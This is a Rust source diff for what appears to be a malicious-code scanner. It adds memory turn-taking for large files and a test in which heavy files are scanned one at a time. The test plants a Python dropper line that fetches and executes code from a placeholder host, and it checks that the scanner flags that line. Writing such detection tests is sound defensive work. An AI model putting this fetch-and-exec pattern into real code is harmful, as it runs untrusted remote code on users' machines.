@@ -72,6 +72,7 @@ pub fn run(
         .num_threads(opts.threads)
         .thread_name(|i| format!("hiss-worker-{i}"))
         .build()?;
+    crate::python::memory::tune();
     let places = Places::default();
     let config = &opts.config;
     let skip = |display: &str, is_dir: bool| {
@@ -131,6 +132,7 @@ struct Places {
 }
 
 fn scan_item(worker: &mut Worker<'_>, item: &Item, opts: &Options, places: &Places) -> Vec<Event> {
+    let _turn = crate::python::memory::TurnScope::begin();
     if item.size > opts.max_file_size {
         return vec![Event::Error(ScanError {
             path: item.display.clone(),
@@ -139,6 +141,11 @@ fn scan_item(worker: &mut Worker<'_>, item: &Item, opts: &Options, places: &Plac
                 item.size, opts.max_file_size
             ),
         })];
+    }
+    // A big item holds tens of MB from its read to the hand-back of memory
+    // below: it waits for its turn (`memory::take_turn`) before it is read.
+    if item.size > HEAVY_FILE as u64 {
+        crate::python::memory::take_turn();
     }
     let data = match std::fs::read(&item.path) {
         Ok(d) => d,
@@ -456,4 +463,59 @@ pub fn scan_paths(paths: &[PathBuf], sigs: &Signatures, opts: &Options) -> Repor
         consumer.join().expect("the collector does not panic");
     });
     collector.finish()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::python::memory::turns;
+
+    /// Four workers meet four big files, four small ones whose decoding
+    /// holds tens of MB, and many light files: the heavy work is done one at
+    /// a time, the light files beside it, and a dropper among the heavy
+    /// files is still found.
+    #[test]
+    fn heavy_work_takes_turns() {
+        let dir = tempfile::tempdir().unwrap();
+        let filler = "def f(x):\n    return x + 1\n".repeat(HEAVY_FILE / 20);
+        for i in 0..4 {
+            let mut text = filler.clone();
+            if i == 2 {
+                text.push_str(
+                    "import urllib.request\nexec(urllib.request.urlopen('http://example.invalid/x').read())\n",
+                );
+            }
+            std::fs::write(dir.path().join(format!("big_{i}.py")), text).unwrap();
+        }
+        // A test's payload, built from ranges: megabytes of values.
+        let builds = "payload = b''.join([bytes((*range(0, i), *range(i, 0, -1))) \
+                      for i in range(255) for _ in range(64)])\n";
+        for i in 0..4 {
+            std::fs::write(dir.path().join(format!("builds_{i}.py")), builds).unwrap();
+        }
+        for i in 0..32 {
+            std::fs::write(dir.path().join(format!("light_{i}.py")), "x = 1\n").unwrap();
+        }
+        let sigs = Signatures::load(&[]).unwrap();
+        let opts = Options {
+            threads: 4,
+            ..Options::default()
+        };
+        let report = scan_paths(&[dir.path().to_path_buf()], &sigs, &opts);
+        let (taken, most) = turns::seen();
+        // (Other tests scanning heavy files at the same time take turns too.)
+        assert!(
+            taken >= 8,
+            "each big file and each heavy evaluation takes a turn: {taken}"
+        );
+        assert_eq!(most, 1, "two heavy items were analysed at once");
+        assert!(report.errors.is_empty(), "{:?}", report.errors);
+        assert!(
+            report.findings.iter().any(
+                |f| f.path.ends_with("big_2.py") && f.severity >= crate::report::Severity::High
+            ),
+            "{:?}",
+            report.findings
+        );
+    }
 }
